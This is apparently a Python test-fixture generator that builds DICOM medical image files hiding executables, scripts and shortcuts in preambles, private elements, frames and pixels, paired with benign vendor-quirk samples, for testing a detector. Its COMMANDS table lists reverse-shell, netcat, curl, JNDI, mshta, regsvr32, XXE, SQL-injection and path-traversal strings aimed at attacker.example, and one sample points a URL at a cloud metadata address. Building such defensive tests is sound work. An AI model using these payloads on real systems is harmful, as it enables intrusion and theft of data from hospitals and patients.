"""More DICOM samples: other value representations, transfer syntaxes, encodings and commands, and vendors' quirks.

Source: PS3.5 6.2 (value representations), annex A (transfer syntaxes), PS3.10 7.5; OWASP Testing Guide 4.2 (injection);
private elements as devices of several makers write them, rebuilt from their conformance statements.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from typing import Any

from safecare.testing.medical_attacks.dicom import SIDE, image
from safecare.testing.medical_attacks.payloads import (
    BINARIES,
    EICAR,
    SCRIPTS,
    elf,
    jpeg,
    jpeg_2000,
    lnk,
    pdf,
    pe,
    rle,
    zipped,
)
from safecare.testing.medical_attacks.sample import Label, Sample
from safecare.testing.medical_attacks.writer import (
    BIG,
    DEFLATED,
    ENCAPSULATED_PDF,
    EXPLICIT,
    HTJ2K,
    IMPLICIT,
    JPEG,
    JPEG_2000,
    MPEG4,
    RLE,
    ROOT,
    Image,
    Items,
    Writer,
)

CREATOR: Items = {(0x00090010, "LO"): "FABRICANT 1.0"}
HEADS: dict[str, bytes] = {
    "vbs": b'Dim s\r\nSet s = CreateObject("Shell")\r\n',
    "vbs-box": b'MsgBox "SAFECARE-INERT-TEST"\r\n',
    "powershell": b"$a = 'SAFECARE'\r\nWrite-Host $a\r\n",
    "batch-plain": b"start notepad.exe\r\nexit\r\n",
    "batch-label": b":: x\r\nnotepad.exe\r\n",
    "shell-plain": b"echo SAFECARE; exit\n",
    "perl": b"use strict;\nprint 1;\n__END__\n",
    "ruby": b"puts 1\n__END__\n",
    "wide-page": "<html><script>console.log(1)</script>".encode("utf-16"),
    "marked-page": b"\xef\xbb\xbf<html><body>",
    "shortcut": b"[InternetShortcut]\r\nURL=file://attacker.example/x\r\n",
    "registry": b"Windows Registry Editor Version 5.00\r\n",
    "query": b"WEB\r\n1\r\nhttp://attacker.example/\r\n",
    "encoded-script": b"#@~^XAAAAA==",
    "dos": b"\xeb\x3c\x90\xb4\x09\xcd\x21",
    "sector": b"\xfa\x33\xc0\x8e\xd0\xbc\0\x7c",
    "pyc": b"\x6f\x0d\x0d\x0a\0\0\0\0",
    "tiff-and-pe": b"II*\0\x08\0\0\0" + pe()[:110],
}
"""Preambles by name."""
COMMANDS: dict[str, str] = {
    "svg": "<svg/onload=console.log(1)>",
    "slashes": "<img/src=x/onerror=console.log(1)>",
    "toggle": "<details/open/ontoggle=console.log(1)>",
    "entity": "<a href=javascript&colon;console.log(1)>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://attacker.example'>",
    "form": "<form action=http://attacker.example><input name=p>",
    "drop-table": "'; DROP TABLE patients;--",
    "always-true": "' OR '1'='1",
    "union": "1 UNION SELECT login FROM users",
    "template": "{{7*7}}",
    "expression": "${7*7}",
    "lookup-split": "${${lower:j}ndi:ldap://attacker.example/a}",
    "substitution": "$(curl http://attacker.example/x)",
    "remove": "; rm -rf /tmp/x ;",
    "listen": "| nc attacker.example 4444",
    "device": "bash -i >& /dev/tcp/192.0.2.1/4444",
    "environment": "() { :;}; /bin/bash -c id",
    "data-address": "data:text/html;base64,PHNjcmlwdD4=",
    "hyperlink": '=HYPERLINK("http://attacker.example","x")',
    "entity-file": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "evaluated": "os.popen('id').read()",
    "mshta": "mshta http://attacker.example/a.hta",
    "scriptlet": "regsvr32 /s /u /i:http://attacker.example/x.sct scrobj.dll",
    "path": "../../../../etc/passwd",
    "divided": "<scr\0ipt>console.log(1)</scr\0ipt>",
    "percent": "%3Cscript%3Econsole.log(1)%3C/script%3E",
}
"""Commands in text by name."""
WORDS: dict[str, str] = {
    "signs": "CRP <5, Na> 135 ; TA 12/8 | FC 80 && stable",
    "breaks": "Ligne 1<br>Ligne 2<br/><b>gras</b>",
    "scores": "Evaluation (eval 3/5) ; exec. prevue ; commande (cmd) 12",
    "dates": "../../2020 a ../2021",
    "share": "\\\\PACS01\\IMAGES\\2024\\IM0001.dcm",
    "address": "https://www.hopital.example/cr?id=3&x=1",
    "script-word": "Script: marche, javascript non",
    "sql-word": "select the union of both; drop in pressure",
    "fields": "${NOM} {{prenom}} #1 100%n",
    "formula": "=5+3 ; @12h ; -cmd",
    "page": "<html><body><p>Rapport</p></body></html>",
    "rtf": "{\\rtf1\\ansi Compte rendu \\par}",
    "japanese": "\x1b$B;3ED\x1b(B",
}
"""What people and devices write that resembles commands, by name."""
SYNTAXES: dict[str, tuple[str, Callable[[random.Random], bytes]]] = {
    "jpeg-lossless": ("1.2.840.10008.1.2.4.70", lambda _: jpeg()),
    "jpeg-2000": (JPEG_2000, lambda _: jpeg_2000()),
    "htj2k-lossless": ("1.2.840.10008.1.2.4.202", lambda _: jpeg_2000()),
    "jpeg-xl": ("1.2.840.10008.1.2.4.110", lambda rng: b"\xff\x0a" + rng.randbytes(400)),
    "mpeg2": ("1.2.840.10008.1.2.4.100", lambda rng: b"\0\0\1\xb3" + rng.randbytes(400)),
    "hevc": ("1.2.840.10008.1.2.4.107", lambda rng: b"\0\0\0\1\x40" + rng.randbytes(400)),
    "rle": (RLE, lambda _: rle()),
    "encapsulated": ("1.2.840.10008.1.2.1.98", lambda rng: rng.randbytes(512)),
    "deflated-frames": ("1.2.840.10008.1.2.8.1", lambda _: zlib.compress(bytes(512))[2:-4]),
    "unknown": ("1.2.3.4", lambda rng: rng.randbytes(512)),
}
"""Transfer syntaxes of encapsulated frames, and a frame of each."""


def packings(raw: bytes) -> dict[str, bytes]:
    """Return `raw` packed or coded in the ways that a value may hold it."""
    return {
        "gzip": gzip.compress(raw, mtime=0),
        "zlib": zlib.compress(raw),
        "bzip2": bz2.compress(raw),
        "xz": lzma.compress(raw),
        "hex": raw.hex().encode(),
        "base64-gzip": base64.b64encode(gzip.compress(raw, mtime=0)),
        "base64-url": base64.urlsafe_b64encode(raw),
        "zip": zipped({"x.exe": raw}),
    }


def _one(technique: str, variant: str, what: str, made: Image, label: Label = "attack", twin: str = "ct") -> Sample:
    name = f"dicom-{technique}-{variant}.dcm"
    told = f"dicom-benign-{twin}.dcm" if label != "benign" else ""
    return Sample(name=name, label=label, family="dicom", technique=technique, what=what, raw=made.write(), twin=told)


def preambles(rng: random.Random) -> Iterator[Sample]:
    """Yield further heads: scripts without a mark, programs without a head, settings."""
    for name, head in HEADS.items():
        yield _one("head", name, f"The preamble begins as {name}.", image(rng, preamble=head[:128]))


def values(rng: random.Random) -> Iterator[Sample]:
    """Yield payloads packed, coded, shifted and turned, in every value representation and syntax."""
    program = pe() + rng.randbytes(3000)
    for name, raw in packings(program).items():
        for syntax, told in ((EXPLICIT, ""), (IMPLICIT, "-implicit"), (BIG, "-big"), (DEFLATED, "-deflated")):
            made = image(rng, syntax, items={**CREATOR, (0x00091010, "OB"): raw})
            yield _one("packed", name + told, f"A private element holds a program packed as {name}.", made)
    for vr in ("OB", "OW", "OF", "OD", "OL", "OV", "UN", "UT", "UC", "UR", "LT", "ST", "LO", "SH"):
        made = image(rng, items={**CREATOR, (0x00091010, vr): lnk()})
        yield _one("value", f"lnk-{vr.lower()}", f"A shortcut in a private {vr}.", made, twin="private")
    shifted = {"lnk": lnk(), "cab": BINARIES["cab"], "onenote": BINARIES["onenote"], "rtf": BINARIES["rtf"]}
    for name, raw in {**shifted, "sh": SCRIPTS["sh"], "gzip": gzip.compress(program, mtime=0)}.items():
        made = image(rng, items={**CREATOR, (0x00091010, "OB"): b"\1" * 40 + raw})
        yield _one("value", f"shifted-{name}", f"A file of kind {name} after 40 bytes.", made, twin="private")
        inner = Writer(IMPLICIT).element(0x00091020, "OB", raw)
        item = struct.pack("<HHI", 0xFFFE, 0xE000, len(inner)) + inner
        made = image(rng, items={**CREATOR, (0x00091010, "UN"): item})
        yield _one("value", f"sequence-{name}", f"{name} in a sequence that is written as UN.", made, twin="private")
    for name in ("script-tag", "command"):
        text = {"script-tag": "<script>console.log(1)</script>", "command": "powershell -nop -enc AAAA"}[name]
        made = image(rng, items={**CREATOR, (0x00091010, "OB"): text.encode("utf-16-le")})
        yield _one("value", f"wide-{name}", f"{name} in UTF-16.", made, twin="private")
    even = pe() + b"\0" * (len(pe()) % 2)
    turned = b"".join(even[at + 1 : at + 2] + even[at : at + 1] for at in range(0, len(even), 2))
    made = image(rng, BIG, items={**CREATOR, (0x00091010, "OW"): turned})
    yield _one("value", "turned", "A program as words of 16 bits in big endian.", made, twin="big")
    for name, raw in {"pe": pe(), "lnk": lnk()}.items():
        made = image(rng, DEFLATED, meta={(0x00020100, "UI"): ROOT, (0x00020102, "OB"): raw})
        yield _one("value", f"meta-deflated-{name}", "In the meta information before a deflated data set.", made)
    icon: Items = {(0x00280010, "US"): 16, (0x00280011, "US"): 16, (0x00280100, "US"): 8}
    for name, raw in {"pe": pe(), "lnk": lnk(), "behind": bytes(256) + pe()}.items():
        made = image(rng, items={(0x00880200, "SQ"): [{**icon, (0x7FE00010, "OW"): raw}]})
        yield _one("value", f"icon-{name}", "In the pixels of the icon.", made)
    head = Writer(EXPLICIT).element(0x00100010, "PN", "AUTRE^NOM")
    yield _one("twice", "patient", "The patient stands twice with two names.", image(rng, raw=head))
    for name, url in {"share": "\\\\attacker.example\\x", "ftp": "ftp://attacker.example/x"}.items():
        made = image(rng, items={**CREATOR, (0x00091010, "UR"): url})
        yield _one("remote", f"private-{name}", f"A private address: {url}.", made)
    made = image(rng, items={(0x00081190, "UR"): "http://169.254.169.254/latest/meta-data/"})
    yield _one("remote", "host", "A retrieve URL leads to the services of the machine's host.", made)


def commands(rng: random.Random) -> Iterator[Sample]:
    """Yield commands where names and words belong."""
    for name, text in COMMANDS.items():
        for tag, vr, told in ((0x00104000, "LT", "comments"), (0x00100020, "LO", "patient-id")):
            made = image(rng, items={(tag, vr): text[:64]})
            yield _one("command", f"{told}-{name}", f"{told} holds {name}.", made, twin="words-signs")


def frames(rng: random.Random) -> Iterator[Sample]:
    """Yield payloads among the frames of every transfer syntax."""
    for told, (syntax, make) in SYNTAXES.items():
        for name, raw in {"pe": pe() + rng.randbytes(9000), "lnk": lnk(), "html": SCRIPTS["html"]}.items():
            good = make(rng)
            for where, parts in {"is": (raw,), "after": (good + raw,), "second": (good, raw)}.items():
                what = f"A {name} among frames of {told}: {where}."
                yield _one("frames", f"{told}-{where}-{name}", what, image(rng, syntax, fragments=parts))
    stream = jpeg_2000()
    for name, raw in {"pe": pe(), "php": SCRIPTS["php"]}.items():
        note = b"\xff\x64" + struct.pack(">HH", len(raw) + 4, 1) + raw
        made = image(rng, JPEG_2000, fragments=(stream[:-2] + note + stream[-2:],))
        yield _one("frames", f"jpeg-2000-comment-{name}", "In a comment of a codestream.", made, twin="jpeg-2000")
    coded = base64.b64encode(elf() + bytes(60))
    made = image(rng, JPEG, fragments=(jpeg(coded),))
    yield _one("frames", "jpeg-comment-base64", "A program as Base64 in a comment.", made, twin="jpeg")
    wide = jpeg().replace(b"\xff\xc0\0\x0b\x08\0\x08\0\x08", b"\xff\xc0\0\x0b\x08\xff\xff\xff\xff")
    yield _one("bomb", "frame-jpeg", "A JPEG frame claims 65535 x 65535.", image(rng, JPEG, fragments=(wide,)))
    wide = stream.replace(struct.pack(">II", 8, 8), struct.pack(">II", 1 << 20, 1 << 20), 1)
    yield _one("bomb", "frame-jpeg-2000", "A codestream claims 2^40.", image(rng, JPEG_2000, fragments=(wide,)))
    for name, raw in {"pe": pe(), "eicar": EICAR}.items():
        large = image(rng, items={(0x00280010, "US"): 120, (0x00280011, "US"): 120})
        noise = bytearray(rng.randbytes(28_800))
        noise[1000 : 1000 + len(raw)] = raw
        large.pixels = bytes(noise)
        yield _one("pixel-payload", f"middle-{name}", "In the middle of the pixels.", large)
    for name, raw in {"html": SCRIPTS["html"], "7z": BINARIES["7z"]}.items():
        made = image(rng)
        made.pixels = raw.ljust(2 * SIDE * SIDE, b"\0")
        yield _one("pixel-payload", name, f"The pixels are a {name}.", made)


def quirks(rng: random.Random) -> Iterator[Sample]:
    """Yield what devices really write: odd preambles, paddings, group lengths, private data of makers, comments."""

    def good(name: str, what: str, made: Image) -> Sample:
        return _one("benign", name, what, made, "benign")

    marks = {"random": rng.randbytes(128), "maker": b"DICOM file by Fabricant v1.0 (c) 1999", "spaces": b" " * 128}
    for name, head in {**marks, "two-lines": b"FABRICANT SA\r\nModele X1", "ones": b"\xff" * 128}.items():
        yield good(f"preamble-{name}", f"A preamble of {name}.", image(rng, preamble=head))
    tails = {"zero": b"\0", "ones": b"\xff" * 300, "blanks": b" " * 200, "line-end": b"\r\n", "odd": bytes(333)}
    for name, tail in tails.items():
        for syntax, told in ((EXPLICIT, ""), (IMPLICIT, "-implicit"), (JPEG, "-jpeg")):
            more: dict[str, Any] = {"fragments": (jpeg(),)} if syntax == JPEG else {}
            yield good(f"tail-{name}{told}", f"Behind the data set: {name}.", image(rng, syntax, after=tail, **more))
    lengths: Items = {(0x00080000, "UL"): 100, (0x00100000, "UL"): 50, (0x7FE00000, "UL"): 600}
    protocol = b'### ASCCONV BEGIN ###\nulVersion\t=\t0x1421cf5\ntName\t=\t"%Seq%\\gre"\n### ASCCONV END ###\n'
    series = gzip.compress(b'set IMAGETYPE "X"\nset NUMECHO "1"\n' * 30, mtime=0)
    private: dict[str, tuple[str, bytes]] = {
        "csa": ("OB", b"SV10\4\3\2\1" + rng.randbytes(900)),
        "protocol": ("OB", protocol + rng.randbytes(200)),
        "gzip-text": ("OB", series),
        "zlib-xml": ("OB", zlib.compress(b'<?xml version="1.0"?><root><param name="kV">120</param></root>' * 20)),
        "xml": ("UT", b'<?xml version="1.0"?><root><form id="3">x</form></root>'),
        "picture": ("OB", b"\x89PNG\r\n\x1a\n" + rng.randbytes(300)),
        "picture-base64": ("UT", base64.b64encode(jpeg())),
        "noise": ("OB", rng.randbytes(60_000)),
    }
    for syntax, told in ((EXPLICIT, ""), (IMPLICIT, "-implicit"), (BIG, "-big"), (DEFLATED, "-deflated")):
        yield good(
            f"group-lengths{told}", "Group lengths, as old devices write them.", image(rng, syntax, items=lengths)
        )
        for name, (vr, raw) in private.items():
            made = image(rng, syntax, items={(0x00290010, "LO"): "FABRICANT HEADER", (0x00291010, vr): raw})
            yield good(f"maker-{name}{told}", f"Private data of a maker: {name}.", made)
    for name, text in WORDS.items():
        yield good(f"words-{name}", f"A comment with {name}.", image(rng, items={(0x00104000, "LT"): text}))
    for told, (syntax, make) in SYNTAXES.items():
        yield good(f"frames-{told}", f"Two frames of {told}.", image(rng, syntax, fragments=(make(rng), make(rng))))
    start, scan = jpeg()[:2], jpeg()[2:]
    notes = {"exif": b"\xff\xe1" + struct.pack(">H", 40) + b"Exif\0\0II*\0\x08\0\0\0" + bytes(24), "fill": b""}
    for name, note in notes.items():
        made = image(rng, JPEG, fragments=(start + note + scan + b"\xff\xff" * (name == "fill"),))
        yield good(f"jpeg-{name}", f"A JPEG frame with {name}.", made)
    stream = jpeg_2000()
    tile = b"\xff\x90\0\x0a\0\0" + struct.pack(">I", 314) + b"\0\1\xff\x93" + rng.randbytes(300)
    note = b"\xff\x64" + struct.pack(">HH", 19, 1) + b"Kakadu-v7.10.2 "
    for syntax, told in ((JPEG_2000, "jpeg-2000"), (HTJ2K, "htj2k")):
        made = image(rng, syntax, fragments=(stream[:-2] + note + tile + stream[-2:] + b"\0",))
        yield good(f"{told}-tiles", "A codestream with a comment, a tile and a padding byte.", made)
    film = (b"\0\0\0\x20ftypisom" + rng.randbytes(20_000), rng.randbytes(20_000))
    yield good("film", "A film in two fragments.", image(rng, MPEG4, fragments=film))
    inner = Writer(IMPLICIT).element(0x00091020, "OB", rng.randbytes(50))
    item = struct.pack("<HHI", 0xFFFE, 0xE000, len(inner)) + inner
    yield good("sequence-un", "A private sequence as UN.", image(rng, items={**CREATOR, (0x00091010, "UN"): item}))
    padded: Items = {
        (0x00080060, "CS"): "DOC",
        (0x00420011, "OB"): pdf("") + b"\0",
        (0x00420012, "LO"): "application/pdf",
    }
    yield good(
        "document-padded", "An encapsulated PDF with a padding byte.", Image(sop_class=ENCAPSULATED_PDF, items=padded)
    )
    more_pixels = image(rng)
    more_pixels.pixels = (more_pixels.pixels or b"") + bytes(600)
    yield good("pixels-padded", "Zeros behind the pixels.", more_pixels)


FAMILIES: tuple[Callable[[random.Random], Iterator[Sample]], ...] = (quirks, preambles, values, commands, frames)
"""All makers of these samples."""
